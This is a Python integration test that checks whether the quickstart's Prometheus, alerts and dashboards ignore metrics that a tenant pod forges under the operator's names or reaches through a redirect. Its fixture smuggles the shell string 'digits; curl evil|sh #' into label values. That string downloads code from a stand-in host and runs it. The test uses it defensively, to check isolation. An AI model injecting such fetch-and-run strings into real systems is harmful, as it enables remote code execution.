"""Whom the quickstart's Prometheus, its alerts and the boards believe: a real Prometheus with the quickstart's own
configuration scrapes an operator beside a tenant's pods."""

import json
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Final

import httpx
import pytest
import yaml
from prometheus_client import generate_latest

from charts.alerts import ALERTS
from lab import paths
from sluice.shell.reporting import metrics
from sluice.shell.reporting.telemetry import Telemetry
from tests.integration.prometheus import conftest
from tests.support import boards, patience
from tests.support.live.kube import wait_until

SHELL: Final = "digits; curl evil|sh #"
FORGED: Final = "".join(
    metric.name + "{" + ",".join(f'{label}="{SHELL}"' for label in metric.labels) + "} 1\n"
    for metric in metrics.METRICS
    if metric.name.startswith("sluice_")
)
SCRAPED_SECONDS: Final = 40.0


class Pod:
    """What is scraped: its text, or a redirect to another one."""

    def __init__(self, text: str, *, location: str = "") -> None:
        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(307 if location else 200)
                self.send_header("Content-Type", "text/plain; version=0.0.4")
                self.send_header("Content-Length", str(len(text.encode())))
                if location:
                    self.send_header("Location", location)
                self.end_headers()
                self.wfile.write(text.encode())

            def log_message(self, *_: object) -> None:
                """Silent."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port

    def discovered(self, namespace: str, name: str) -> dict[str, Any]:
        """As Kubernetes' service discovery says it, in place of which it stands in the configuration."""
        meta = {
            "namespace": namespace,
            "pod_name": "one",
            "pod_ip": "127.0.0.1",
            "pod_phase": "Running",
            "pod_label_app_kubernetes_io_name": name,
            "pod_annotation_prometheus_io_scrape": "true",
            "pod_annotation_prometheus_io_port": str(self.port),
        }
        labels = {f"__meta_kubernetes_{key}": value for key, value in meta.items()}
        return {"targets": [f"127.0.0.1:{self.port}"], "labels": labels}


@contextmanager
def running(*pods: Pod) -> Iterator[None]:
    with ExitStack() as stack:
        for pod in pods:
            thread = threading.Thread(target=pod.server.serve_forever, kwargs={"poll_interval": 0.1})
            thread.start()
            stack.callback(pod.server.server_close)
            stack.callback(thread.join)
            stack.callback(pod.server.shutdown)
        yield


def configuration(found: list[dict[str, Any]]) -> dict[str, Any]:
    """The quickstart's, with these pods discovered."""
    documents = yaml.safe_load_all((paths.MANIFESTS / "prometheus.yaml").read_text())
    (text,) = (each["data"]["prometheus.yml"] for each in documents if each["kind"] == "ConfigMap")
    config: dict[str, Any] = yaml.safe_load(text)
    config["global"] |= {"scrape_interval": "1s", "scrape_timeout": "1s"}
    for job in config["scrape_configs"]:
        (where,) = job.pop("kubernetes_sd_configs")
        names = where.get("namespaces", {}).get("names")
        spaces = [each["labels"]["__meta_kubernetes_namespace"] for each in found]
        job["static_configs"] = [
            each for each, space in zip(found, spaces, strict=True) if names is None or space in names
        ]
    return config


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A Prometheus that has scraped an operator that leads, and three pods of tenants."""
    telemetry, folder = Telemetry(), tmp_path_factory.mktemp("quickstart")
    operator = Pod(generate_latest(telemetry.registry).decode() + "sluice_leader 0\n")
    forger = Pod(f"{FORGED}feedback_total 7\nsluice_observed_total 8\n")
    follower = Pod("", location=f"http://127.0.0.1:{operator.port}/metrics")
    found = [
        operator.discovered("sluice-system", "sluice"),
        forger.discovered("evil", "sluice"),
        follower.discovered("worse", "digits"),
    ]
    config = folder / "prometheus.yml"
    config.write_text(yaml.safe_dump(configuration(found)))
    with running(operator, forger, follower), conftest.running(config, folder / "data") as started:
        spaces = {"sluice-system", "evil", "worse"}
        wait_until(
            lambda: (
                {each["namespace"] for each in series(started, "up")} == spaces
                and series(started, "sluice_rollouts_total") != []
                and series(started, "feedback_total") != []
            ),
            seconds=patience.seconds(SCRAPED_SECONDS),
        )
        yield started


def series(prometheus: str, query: str) -> list[dict[str, str]]:
    """The labels of an answer."""
    answer = httpx.post(
        f"{prometheus}/api/v1/query", data={"query": query}, trust_env=False, timeout=patience.seconds(10)
    )
    return [each["metric"] for each in answer.raise_for_status().json()["data"]["result"]]


def test_series_of_the_operators_names_are_the_operators(url: str) -> None:
    """Neither forged ones nor those that a pod's redirect leads to are stored."""
    ours = series(url, '{__name__=~"sluice_.+",__name__!="sluice_observed_total"}')
    assert {(each["job"], each["namespace"]) for each in ours} == {("sluice", "sluice-system")}
    assert series(url, 'up{namespace="worse"} == 1') == []


def test_a_pods_own_counters_are_stored_as_its_own(url: str) -> None:
    for name in ("feedback_total", "sluice_observed_total"):
        assert [each["namespace"] for each in series(url, name)] == ["evil"]


def test_nobody_but_the_operator_raises_or_silences_an_alert(url: str) -> None:
    raised = {alert.name for alert in ALERTS if series(url, alert.expr)}
    assert raised == {"SluiceOperatorDown"}


def test_no_board_shows_what_a_tenant_forges(url: str) -> None:
    values = dict.fromkeys(("namespace", "model", "batch"), boards.ALL)
    asked = [
        boards.filled(expr, values)
        for file in boards.FOLDER.glob("*.json")
        for expr in boards.expressions(json.loads(file.read_text()))
    ]
    assert [each for expr in asked for each in series(url, expr) if "curl" in json.dumps(each)] == []
    for expr in (expr for expr in asked if "sluice_leader" in expr):
        values_ = httpx.post(f"{url}/api/v1/query", data={"query": expr}, trust_env=False).json()["data"]["result"]
        assert [each["value"][1] for each in values_] in (["0"], ["1"]), "one replica, which does not lead"
